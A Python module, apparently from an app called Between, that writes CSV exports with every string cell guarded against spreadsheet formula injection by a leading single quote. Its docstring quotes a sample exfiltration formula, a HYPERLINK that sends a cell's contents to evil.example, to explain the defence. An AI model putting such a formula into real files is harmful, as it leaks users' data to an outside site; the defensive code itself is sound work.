"""CSV that is safe to open in a spreadsheet: no cell is ever read as a formula.

Every CSV Between writes goes through `writer()` (the client's download and the
therapist's export alike). A spreadsheet runs a cell that starts with `=`, `+`,
`-` or `@` as a formula, and some also treat a leading tab or carriage return
that way; an answer like `=HYPERLINK("https://evil.example/?x="&A1,"Open")`
would otherwise send the therapist's sheet to another site on a click. As the
OWASP guidance on CSV injection says, such a cell is written with a single
quote in front (`'=HYPERLINK(…)`): spreadsheets show it as text, and the
original is still plain to read.

Negative numbers: OWASP prefixes `-1` too. We do so for every *string*, since
strings are what people typed (answers, form titles and questions, names,
device labels) or text derived from it, so a typed "-5" becomes "'-5". A value
that is an `int` or a `float` (a score, a scale or number answer, a form
version) is a number our own code produced or validated: its text can only be
digits, a sign, a point and an exponent, so it cannot hold a formula, and it
stays a number the spreadsheet can sum and chart. `bool` is not treated as a
number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell(value: Any) -> Any:
    """A value as it may go into a CSV cell: numbers as they are, anything else as safe text."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


class SafeWriter:
    """`csv.writer` with every cell passed through `cell()`."""

    def __init__(self, stream: _Writable) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: _Writable) -> SafeWriter:
    return SafeWriter(stream)
